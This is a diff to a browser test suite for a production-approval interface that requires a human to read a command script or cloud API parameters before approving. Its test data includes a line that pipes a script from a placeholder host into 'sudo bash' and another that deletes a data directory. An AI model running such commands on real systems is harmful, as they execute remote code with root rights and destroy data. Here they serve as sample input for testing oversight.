@@ -9,6 +9,11 @@ from tests.content.test_archive import packed
 
 APPROVE = ".decide button:text-is('Approve in prod')"
 SHORT = ["#!/bin/bash", "curl -s https://x.example/i | sudo bash", "rm -rf /srv/orders/data"]
+BELIEVE = """async () => {
+    const { markRead, state } = await import("/state.js");
+    const [prompt] = state.prompts.values();
+    markRead(prompt, prompt.to_read[0].part);
+}"""
 LONG = [f"echo step {number}" for number in range(200)]
 
 
@@ -27,6 +32,21 @@ def scroll(page):
         before = page.evaluate("scrollY")
         page.mouse.wheel(0, 300)
         page.wait_for_function("before => scrollY > before", arg=before)
+
+
+def show_all(page):
+    """Scroll through a dialog, page by page."""
+    page.evaluate(
+        """() => new Promise((done) => {
+            const text = document.querySelector(".reader .text");
+            const step = () => {
+                if (text.parentNode.innerText.includes("End of the text.")) return done();
+                text.scrollBy(0, text.clientHeight - 50);
+                requestAnimationFrame(() => requestAnimationFrame(step));
+            };
+            step();
+        })"""
+    )
 
 
 def test_one_line_that_is_taller_than_the_screen_can_be_read(visit, stage):
@@ -95,26 +115,55 @@ def test_what_the_prompt_does_not_hold_is_opened_and_then_read(visit, stage):
     ask = stage.ask(**command(LONG * 20))
     page = visit().enter()
     page.click("text=Read the script first")
-    page.wait_for_selector("text=End of the text.")
+    page.wait_for_selector("text=All is here")
     assert page.locator(".reader .line").count() == 4000
     assert page.locator(".reader .tint-b >> nth=0").inner_text() == "echo"
+    page.evaluate("document.querySelector('.reader .text').scrollTo(0, 1e9)")
+    page.wait_for_function("document.querySelector('.reader .text').scrollTop > 10000")
+    page.click("dialog button:text-is('Close')")
+    assert page.locator(APPROVE).count() == 0
+    page.click("text=Read the script first")
+    page.wait_for_selector("text=All is here")
+    show_all(page)
     page.click("dialog button:text-is('Close')")
     page.click(APPROVE)
     assert ask.outcome() == "approve"
     assert vote(stage)["read"] == ["script Parameters.commands"]
 
 
+def test_no_piece_is_fetched_before_all_of_the_last_was_on_the_screen(visit, stage):
+    ask = stage.ask(**command(["echo step by step"] * 8000))
+    page = visit().enter()
+    page.click("text=Read the script first")
+    page.wait_for_selector("text=65536 of 143999 characters are here")
+    page.click("dialog button:text-is('Close')")
+    page.evaluate(BELIEVE)
+    page.click(APPROVE)
+    page.wait_for_selector("text=read first: script Parameters.commands")
+    page.click("text=Read the script first")
+    page.click("text=Show more")
+    show_all(page)
+    assert page.locator(".reader .line").count() == 8000
+    page.click("dialog button:text-is('Close')")
+    page.click(APPROVE)
+    assert ask.outcome() == "approve"
+
+
+def test_code_beyond_the_parts_with_a_name_is_read_with_all_parameters(visit, stage):
+    containers = [{"name": f"c{number}", "command": ["sh", "-c", f"echo {number}"]} for number in range(205)]
+    stage.ask(service="ecs", operation="RegisterTaskDefinition", params={"containerDefinitions": containers})
+    page = visit().enter()
+    page.wait_for_selector(".code")
+    assert page.locator(".code").count() == 200
+    page.locator(".tree button:text-is('Open all parameters')").first.click()
+    page.wait_for_selector(".reader .line:has-text('echo 204')", state="attached")
+
+
 def test_a_page_that_believes_too_much_is_told_to_read_again(visit, stage):
     ask = stage.ask(**command(LONG))
     page = visit().enter()
     page.wait_for_selector("text=Read the script first")
-    page.evaluate(
-        """async () => {
-            const { markRead, state } = await import("/state.js");
-            const [prompt] = state.prompts.values();
-            markRead(prompt, prompt.to_read[0].part);
-        }"""
-    )
+    page.evaluate(BELIEVE)
     page.click(APPROVE)
     page.wait_for_selector("text=read first: script Parameters.commands")
     page.wait_for_selector("text=Read the script first")
